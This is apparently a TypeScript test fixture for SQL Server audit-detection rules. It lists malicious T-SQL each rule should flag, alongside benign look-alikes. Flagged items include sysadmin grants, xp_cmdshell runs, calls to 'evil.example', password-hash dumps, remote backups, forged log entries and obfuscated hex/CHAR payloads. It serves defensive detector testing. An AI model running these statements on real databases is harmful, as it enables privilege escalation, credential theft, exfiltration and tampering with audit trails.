/** Statements as attackers, people and programs write them, with the rule that each tests. */
interface Statements {
  /** The other fields of the event. */
  readonly event: Readonly<Record<string, unknown>>;
  readonly finds: readonly string[];
  readonly leaves: readonly string[];
}

const bare = (actionId: string, classType?: string) => ({
  actionId,
  objectName: null,
  ...(classType && { additional: { classType } }),
});

export const STATEMENTS: readonly (Statements & { readonly rule: number })[] = [
  {
    rule: 10,
    event: bare('APRL', 'SG'),
    finds: [
      'ALTER SERVER ROLE [sysadmin] ADD MEMBER [eve]',
      "exec sp_addsrvrolemember  N'eve' ,  N'sysadmin'",
      "EXEC sp_addsrvrolemember @loginame = 'eve', @rolename = 'securityadmin';",
    ],
    leaves: [
      'ALTER SERVER ROLE auditors ADD MEMBER [sysadmin]',
      "exec sp_addsrvrolemember 'sysadmin', 'auditors'",
    ],
  },
  {
    rule: 11,
    event: bare('APRL', 'RL'),
    finds: ['alter role\n[db_owner] add member [eve]', "EXEC sp_addrolemember N'db_owner', N'eve'"],
    leaves: ['ALTER ROLE db_datareader ADD MEMBER db_owner'],
  },
  {
    rule: 15,
    event: bare('G', 'SR'),
    finds: [
      'grant control   server to [eve]',
      'GRANT\r\nCONTROL\r\n\tSERVER TO [eve]',
      'GRANT CONTROL/* a /* nested */ one */SERVER TO eve',
      'GRANT CONTROL -- as asked\n SERVER TO eve',
      'GRANT  IMPERSONATE  ANY  LOGIN TO eve',
    ],
    leaves: ['GRANT VIEW SERVER STATE TO mon', 'GRANT CONNECT SQL TO bob', 'GRANT VIEW ANY DATABASE TO bob'],
  },
  {
    rule: 16,
    event: bare('G', 'U'),
    finds: [
      'GRANT SELECT ON t TO "public"',
      'GRANT SELECT ON t\nTO\n\tPUBLIC;',
      'GRANT SELECT ON t TO/**/public',
      'GRANT SELECT ON t TO bob, public',
      'GRANT SELECT ON t TO [CORP\\bob] , [guest] WITH GRANT OPTION',
      'GRANT SELECT ON t TO -- all\n public',
    ],
    leaves: [
      'GRANT SELECT ON t TO [public users]',
      'GRANT SELECT ON t TO [guest-wifi]',
      'GRANT SELECT ON public.t TO bob',
      'GRANT SELECT ON t TO public_web',
      'GRANT SELECT ON t TO bob AS guest_x',
    ],
  },
  {
    rule: 19,
    event: bare('AL', 'DB'),
    finds: [
      'ALTER DATABASE x SET TRUSTWORTHY\nON WITH ROLLBACK IMMEDIATE',
      'ALTER DATABASE x SET TRUSTWORTHY/**/ON',
    ],
    leaves: ['ALTER DATABASE x SET TRUSTWORTHY OFF', 'ALTER DATABASE TrustworthyDb SET ONLINE'],
  },
  {
    rule: 20,
    event: bare('IMP', 'LX'),
    finds: ["EXECUTE AS LOGIN = 'sa'", "exec as login=N'CORP\\SqlAdmin'", "EXECUTE AS LOGIN = 'svc_dba'"],
    leaves: ["EXECUTE AS LOGIN = 'feedback'", "EXECUTE AS LOGIN = 'sales'"],
  },
  {
    rule: 22,
    event: bare('EX'),
    finds: [
      'EXECUTE master.dbo.XP_CMDSHELL\n\t@command',
      "DECLARE @r int; EXEC @r = xp_cmdshell 'x'",
      "EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;EXEC xp_cmdshell 'whoami'",
      "exec sp_configure N'xp_cmdshell', 1; reconfigure; exec master..[xp_cmdshell] N'net user'",
      "EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;EXEC('xp_cmdshell ''whoami''')",
    ],
    leaves: [
      "EXEC sp_configure 'xp_cmdshell', 0; RECONFIGURE",
      "exec sys.sp_configure N'xp_cmdshell', N'1'",
      'sp_configure "xp_cmdshell", 1',
      'exec sp_configure xp_cmdshell, 1',
      "exec sp_configure @configname='xp_cmdshell', @configvalue=1",
    ],
  },
  {
    rule: 23,
    event: bare('EX'),
    finds: [
      "exec  sp_configure   N'xp_cmdshell' ,  1 ; reconfigure",
      "EXEC [sys].[sp_configure] 'Ole Automation Procedures', 1",
      'EXEC "sp_configure" \'clr enabled\',1',
      "EXEC sp_configure @configvalue = 1, @configname = 'xp_cmdshell'",
      "EXEC sp_configure/**/'xp_cmdshell'/**/,/**/1",
      "EXEC sp_configure -- x\n'Ad Hoc Distributed Queries', '1'",
      'exec sp_configure xp_cmdshell, 0x1',
      "EXEC sp_configure 'clr', 1",
      "EXEC sp_configure 'clr strict security', 0",
      "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'external scripts enabled', 1",
    ],
    leaves: [
      "EXEC sp_configure 'xp_cmdshell', 0",
      "EXEC sp_configure 'xp_cmdshell'",
      "EXEC sp_configure 'show advanced options', 1; EXEC sp_configure 'xp_cmdshell', 0",
      "EXEC sp_configure 'xp_cmdshell', 0; EXEC sp_configure 'backup compression default', 1",
      "EXEC sp_configure 'clr strict security', 1",
      "EXEC sp_configure 'max degree of parallelism', 1",
    ],
  },
  {
    rule: 26,
    event: bare('EX'),
    finds: [
      "EXEC sp_OACreate 'wscript.shell', @o OUT",
      "exec master..xp_dirtree '\\\\203.0.113.9\\x'",
      "EXEC [master].[dbo].[xp_regread] N'HKLM'",
    ],
    leaves: ['EXEC dbo.xp_regional_report', 'EXEC dbo.mysp_oad', 'EXEC sp_who2'],
  },
  {
    rule: 28,
    event: bare('EX'),
    finds: ["EXEC msdb.dbo.sp_add_job @job_name='x'", 'exec [msdb]..[sp_add_jobstep] @job_id=@j'],
    leaves: ["EXEC msdb.dbo.sp_help_job 'x'", 'EXEC msdb.dbo.sp_add_jobserver @job_id=1'],
  },
  {
    rule: 29,
    event: bare('EX'),
    finds: [
      "SELECT * FROM OPENQUERY ([LNK],'select 1')",
      "EXEC dbo.fetch 'http://evil.example/x'",
      "EXEC sp_OAMethod @o,'open',NULL,'GET','https://evil.example/x'",
      "EXEC ('select 1') AT LNK",
    ],
    leaves: [
      'SELECT OpenRowsets FROM t2',
      "EXEC dbo.SaveLink 'https://example.com'",
      "exec sp_executesql N'INSERT links VALUES(@u)',N'@u nvarchar(99)',@u=N'http://www.example'",
      "EXEC ('select 1 at 2')",
    ],
  },
  {
    rule: 29,
    event: bare('IN'),
    finds: ["INSERT t SELECT * FROM OPENROWSET('SQLNCLI','server=evil','select 1')"],
    leaves: ["INSERT dbo.Links VALUES('http://www.example')"],
  },
  {
    rule: 31,
    event: bare('EX'),
    finds: [
      'EXEC (CHAR(83)+CHAR(69)+CHAR(76))',
      'exec  ( char( 83 ) + char(69)+\nchar(76) )',
      'EXECUTE/**/(NCHAR(0x53)+NCHAR(0x45)+NCHAR(0x4C))',
      'DECLARE @s varchar(99)=CHAR(83)+CHAR(69)+CHAR(76)+CHAR(69);EXEC(@s)',
      'DECLARE @s nvarchar(max)=CAST(0x53454C4543542031 AS varchar(max)); EXEC(@s)',
      'SET @s=0x45584543206d61737465722e2e78705f636d647368656c6c;EXEC(@s)',
      'EXEC sp_executesql CONVERT(nvarchar(max),0x530045004C00450043005400)',
    ],
    leaves: [
      `exec sp_executesql N'UPDATE t SET h=@h',N'@h varbinary(32)',@h=0x${'0102030405060708'.repeat(4)}`,
      "exec sp_executesql N'SELECT * FROM t WHERE v=@p0',N'@p0 timestamp',@p0=0x00000000000007D1",
      "EXEC('a'+CHAR(13)+CHAR(10)+CHAR(13)+CHAR(10)+'b')",
      'SELECT CHAR(83)+CHAR(69)+CHAR(76)',
      `EXEC dbo.SaveImage @img=0x${'89504E470D0A1A0A'.repeat(4)}`,
    ],
  },
  {
    rule: 32,
    event: bare('AL'),
    finds: [
      'TRUNCATE   TABLE\n dbo.Orders',
      'TRUNCATE/**/TABLE [dbo].[My Orders]',
      'truncate table #a; truncate table b',
    ],
    leaves: [
      'TRUNCATE TABLE #tmp',
      'ALTER PROCEDURE dbo.load AS TRUNCATE TABLE dbo.stage',
      'SELECT truncated FROM table1',
    ],
  },
  {
    rule: 32,
    event: bare('TRUN'),
    finds: ['TRUNCATE TABLE dbo.Orders'],
    leaves: ['TRUNCATE TABLE tempdb..#t'],
  },
  {
    rule: 35,
    event: bare('BA', 'DB'),
    finds: [
      "BACKUP DATABASE x TO\nDISK\n=\n'\\\\e\\x'",
      "BACKUP DATABASE x TO DISK/**/=/**/N'\\\\e\\x'",
      "BACKUP DATABASE x TO DISK = '//evil/x.bak'",
      "BACKUP DATABASE x TO DISK = 'c:\\a', URL='https://x'",
    ],
    leaves: ["BACKUP DATABASE x TO DISK = N'D:\\\\b\\x.bak'", 'BACKUP DATABASE x TO dev'],
  },
  {
    rule: 36,
    event: bare('SL'),
    finds: [
      'SELECT name, password_hash FROM [sys].[sql_logins]',
      'SELECT * FROM master . sys . sql_logins',
      "SELECT LOGINPROPERTY(CONVERT(sysname, name), N'PasswordHash') FROM sys.server_principals",
    ],
    leaves: [
      'SELECT [u].[PasswordHash] FROM [AspNetUsers] AS [u]',
      'SELECT password_hash FROM dbo.users WHERE id=1',
      "SELECT LOGINPROPERTY('sa','IsLocked')",
    ],
  },
  {
    rule: 11,
    event: bare('BCM'),
    finds: [
      "EXEC sp_change_users_login 'Auto_Fix','eve',NULL,'pw'",
      "EXEC sp_change_users_login @LoginName='eve',@Action='Update_One',@UserNamePattern='app'",
    ],
    leaves: ["EXEC sp_change_users_login 'Report'", "EXEC sp_change_users_login 'Auto_Fix','bob'"],
  },
  {
    rule: 11,
    event: bare('USAF', 'SU'),
    finds: ["EXEC sp_change_users_login 'Auto_Fix','eve',NULL,'******'"],
    leaves: ["EXEC sp_change_users_login 'Auto_Fix','bob'"],
  },
  {
    rule: 12,
    event: bare('BCM'),
    finds: [
      'ALTER SERVER ROLE [sysadmin] DROP MEMBER [CORP\\dba]',
      "EXEC sp_dropsrvrolemember 'dba','sysadmin'",
    ],
    leaves: [
      'ALTER ROLE db_owner DROP MEMBER bob',
      'ALTER SERVER ROLE ops ADD MEMBER [DROP MEMBER]',
      "EXEC sp_droprolemember 'db_owner','bob'",
    ],
  },
  {
    rule: 17,
    event: bare('BCM'),
    finds: ["ALTER APPLICATION ROLE [a b] WITH NAME=c,PASSWORD='x'"],
    leaves: ['ALTER APPLICATION ROLE a WITH NAME=b', "CREATE APPLICATION ROLE a WITH PASSWORD='x'"],
  },
  {
    rule: 28,
    event: { ...bare('BCM'), databaseName: 'msdb' },
    finds: [
      "EXEC dbo.sp_apply_job_to_targets @job_name='x',@target_servers='s'",
      "EXEC sp_post_msx_operation 'INSERT','JOB','x'",
      "WITH s AS(SELECT command FROM dbo.sysjobsteps WHERE step_id=1)UPDATE s SET command='x'",
      "UPDATE s SET command='x' FROM sysjobs j JOIN dbo.sysjobsteps s ON s.job_id=j.job_id",
    ],
    leaves: [
      'SELECT command FROM dbo.sysjobsteps',
      'WITH s AS(SELECT command FROM dbo.sysjobsteps)SELECT * FROM s',
      'UPDATE dbo.t SET a=1;SELECT command FROM dbo.sysjobsteps',
    ],
  },
  {
    rule: 29,
    event: bare('BCM'),
    finds: [
      "CREATE ROUTE r WITH SERVICE_NAME='s',ADDRESS='TCP://h:4022'",
      "ALTER ROUTE [a b] WITH MIRROR_ADDRESS='TCP://h:4022'",
      "EXEC msdb.dbo.sysmail_add_account_sp @account_name='a',@mailserver_name='h'",
      "EXEC msdb.dbo.sysmail_update_account_sp @account_id=1,@mailserver_name='h'",
      "DECLARE @s sysname='LNK.master.sys.sp_executesql';EXEC @s N'SELECT 1'",
    ],
    leaves: [
      "CREATE ROUTE r WITH ADDRESS='LOCAL'",
      "EXEC msdb.dbo.sysmail_help_account_sp @account_name='a'",
      "DECLARE @s sysname='master.sys.sp_executesql';EXEC @s N'SELECT 1'",
    ],
  },
  {
    rule: 32,
    event: bare('BCM'),
    finds: [
      "DBCC CHECKDB('Sales',REPAIR_ALLOW_DATA_LOSS) WITH NO_INFOMSGS",
      "DBCC/**/CHECKTABLE ('dbo.t', repair_allow_data_loss)",
      'ALTER INDEX ALL ON dbo.t DISABLE',
    ],
    leaves: [
      "DBCC CHECKDB('Sales',REPAIR_REBUILD)",
      'ALTER INDEX IX ON dbo.t DISABLE',
      'ALTER INDEX ALL ON dbo.t REBUILD',
    ],
  },
  {
    rule: 33,
    event: bare('BCM'),
    finds: ["SELECT STRING_AGG(a,';') FROM dbo.t", 'SELECT a FROM sys_users FOR JSON AUTO'],
    leaves: [
      "DECLARE @s nvarchar(max)=(SELECT STRING_AGG(name,';') FROM sys.tables);EXEC(@s)",
      "SELECT STRING_AGG(value,'') FROM STRING_SPLIT('a|b','|')",
    ],
  },
  {
    rule: 35,
    event: bare('BCM'),
    finds: [
      "EXEC msdb.managed_backup.sp_backup_config_basic @enable_backup=1,@container_url='https://h/c'",
      "EXEC msdb.smart_admin.sp_set_db_backup @database_name='x',@storage_url='https://h/c'",
      "DECLARE @d nvarchar(99)=N'\\\\h';SET @d+=N'\\s\\x.bak';BACKUP DATABASE x TO DISK=@d",
    ],
    leaves: ["SELECT * FROM msdb.managed_backup.fn_backup_db_config('x')"],
  },
  {
    rule: 36,
    event: bare('BCM'),
    finds: [
      "SELECT name,LOGINPROPERTY(name,'PasswordHash') FROM sys.sql_logins",
      "SELECT name,LOGINPROPERTY(name,'IsLocked'),password_hash FROM sys.sql_logins",
    ],
    leaves: [
      "SELECT name,is_policy_checked,LOGINPROPERTY(name,'PasswordLastSetTime') AS t FROM sys.sql_logins",
      "SELECT LOGINPROPERTY(l.name, N'DaysUntilExpiration') FROM master.sys.sql_logins l WHERE l.is_disabled=0",
    ],
  },
  {
    rule: 47,
    event: bare('BCM'),
    finds: [
      "DECLARE @p nvarchar(99)=CHAR(92)+CHAR(92)+'h\\s';RESTORE FILELISTONLY FROM DISK=@p",
      "DECLARE @p nvarchar(99)=REPLICATE('\\',2)+'h\\s';SELECT * FROM sys.dm_os_file_exists(@p)",
      "DECLARE @p nvarchar(99)=N'\\\\h\\'+CAST(@@SPID AS varchar(9));EXEC xp_create_subdir @p",
    ],
    leaves: ["DECLARE @p nvarchar(99)='D:\\s';RESTORE FILELISTONLY FROM DISK=@p"],
  },
  {
    rule: 49,
    event: bare('BCM'),
    finds: [
      "RAISERROR(N'Login succeeded for user ''sa''',10,1) WITH LOG",
      "DECLARE @m varchar(99)='Login failed for user ''bob''';EXEC xp_logevent 60000,@m,error",
      "EXEC sys.sp_cdc_stop_job @job_type='capture'",
      "EXEC sys.sp_cdc_drop_job 'capture'",
    ],
    leaves: [
      "RAISERROR('Import of %s rows failed',16,1) WITH LOG",
      "RAISERROR('Login failed for user ''bob''',16,1)",
      "EXEC xp_logevent 60000,'Nightly load ended',informational",
      "EXEC sys.sp_cdc_start_job 'capture'",
    ],
  },
];
